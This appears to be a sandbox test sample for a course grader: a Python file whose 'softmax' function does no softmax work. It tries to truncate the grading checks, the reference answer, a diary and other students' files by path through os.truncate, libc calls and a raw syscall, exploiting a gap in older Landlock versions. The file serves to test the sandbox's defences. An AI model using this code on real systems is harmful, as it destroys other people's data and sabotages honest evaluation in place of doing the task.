"""Empties files that it may neither read nor open: cutting a file by its name opens nothing.

Landlock cannot refuse that before its version 3.

family: resources, cutting others' files by name
honest: 0
landlock: 1 2
"""

import ctypes
import os

above = os.path.dirname(os.path.dirname(os.getcwd()))
libc = ctypes.CDLL(None, use_errno=True)
SYS_TRUNCATE = {"x86_64": 76, "aarch64": 45}[os.uname().machine]
paths = [
    f"{above}/course/exercises/ex11_softmax/checks.py",
    f"{above}/course/answers/ex11_softmax/reference.py",
    f"{above}/home/diary.txt",
    f"{above}/desk/honest.py",
    f"{above}/desk/ex11_neighbour.py",
]


def softmax(x):
    for path in paths:
        try:
            os.truncate(path, 0)
            print("ATTACK-SUCCEEDED")
        except OSError:
            pass
        for cut in (libc.truncate, libc.truncate64):
            cut(path.encode(), ctypes.c_long(0))
        libc.syscall(SYS_TRUNCATE, path.encode(), ctypes.c_long(0))
    return None
